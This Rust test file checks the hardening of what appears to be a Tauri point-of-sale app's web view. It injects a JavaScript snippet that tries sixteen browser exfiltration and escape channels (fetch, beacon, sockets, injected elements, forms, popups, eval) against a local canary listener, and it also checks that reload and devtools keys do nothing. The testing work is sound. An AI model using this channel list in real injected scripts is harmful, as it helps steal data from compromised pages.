//! What a page that somebody took over could still do.

use std::io::Read as _;
use std::net::{TcpListener, TcpStream};
use std::sync::{
    Arc,
    atomic::{AtomicUsize, Ordering},
};
use std::time::Duration;

use serde_json::{Value, json};

use crate::language::Language::English;
use crate::till::Till;

/// Every way out that a page has. `arguments[0]` is an address outside.
const WAYS_OUT: &str = "
    const url = arguments[0];
    const tried = [];
    const attempt = (name, way) => { try { way(); tried.push(name); } catch (e) { tried.push(name); } };
    attempt('fetch', () => fetch(url + 'fetch', { mode: 'no-cors' }).catch(() => {}));
    attempt('beacon', () => navigator.sendBeacon(url + 'beacon', 'x'));
    attempt('socket', () => new WebSocket(url.replace('http', 'ws') + 'socket'));
    attempt('events', () => new EventSource(url + 'events'));
    for (const [name, tag, key] of [['image', 'img', 'src'], ['script', 'script', 'src'], ['frame', 'iframe', 'src'],
        ['style', 'link', 'href'], ['object', 'object', 'data'], ['video', 'video', 'src']]) {
        attempt(name, () => {
            const element = document.createElement(tag);
            if (tag === 'link') element.rel = 'stylesheet';
            element[key] = url + name;
            document.body.append(element);
        });
    }
    attempt('form', () => {
        const form = document.createElement('form');
        Object.assign(form, { action: url + 'form', method: 'post' });
        document.body.append(form);
        form.submit();
    });
    attempt('base', () => {
        const base = document.createElement('base');
        base.href = url;
        document.head.append(base);
        const image = document.createElement('img');
        image.src = 'base-image';
        document.body.append(image);
    });
    attempt('popup', () => window.open(url + 'popup'));
    attempt('inline', () => {
        const script = document.createElement('script');
        script.textContent = 'window.inlineRan = true';
        document.body.append(script);
    });
    attempt('eval', () => { window.evalRan = new Function('return true')(); });
    attempt('location', () => { location.href = url + 'location'; });
    return tried.length;
";
/// Whoever gets out is there within this.
const LOOK: Duration = Duration::from_secs(2);

/// Counts who comes to an address outside of the till.
fn canary() -> (String, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}/", listener.local_addr().unwrap());
    let came = Arc::new(AtomicUsize::new(0));
    let count = Arc::clone(&came);
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut first = [0; 64];
            stream.set_read_timeout(Some(Duration::from_secs(1))).ok();
            if matches!(stream.read(&mut first), Ok(read) if read > 0) {
                count.fetch_add(1, Ordering::SeqCst);
            }
        }
    });
    (url, came)
}

#[test]
fn a_page_that_was_taken_over_reaches_nobody_and_stays_where_it_is() {
    let till = Till::open("hardening", English);
    let (url, came) = canary();
    // The canary sings: otherwise its silence would prove nothing.
    let address = url.trim_start_matches("http://").trim_end_matches('/');
    std::io::Write::write_all(&mut TcpStream::connect(address).unwrap(), b"GET / ").unwrap();
    std::thread::sleep(LOOK);
    assert_eq!(came.load(Ordering::SeqCst), 1);

    let tried = till.session().execute(WAYS_OUT, &[json!(url)]).unwrap();
    assert_eq!(tried, json!(16));
    std::thread::sleep(LOOK);
    assert_eq!(came.load(Ordering::SeqCst), 1, "somebody got out");
    let script = "return [location.protocol, window.inlineRan ?? null, window.evalRan ?? null]";
    let page = till.session().execute(script, &[]).unwrap();
    assert_eq!(page, json!(["tauri:", Value::Null, Value::Null]));
    // And the till goes on.
    till.click("nav-orders");
    till.by("orders-search");
}

#[test]
fn the_web_views_own_keys_neither_reload_nor_print_the_page() {
    let till = Till::open("own keys", English);
    till.session().execute("window.stays = true", &[]).unwrap();
    for key in ['\u{E035}', '\u{E03B}', '\u{E03C}'] {
        // F5, F11, F12: a till without clerks has nothing to lock.
        till.press(&[key]);
    }
    for letter in ['r', 'p', 'u', 's', 'f'] {
        till.press(&['\u{E009}', letter]);
    }
    std::thread::sleep(Duration::from_millis(500));
    let stays = till.session().execute("return window.stays === true", &[]).unwrap();
    assert_eq!(stays, json!(true));
    assert_eq!(till.windows(), 1);
}
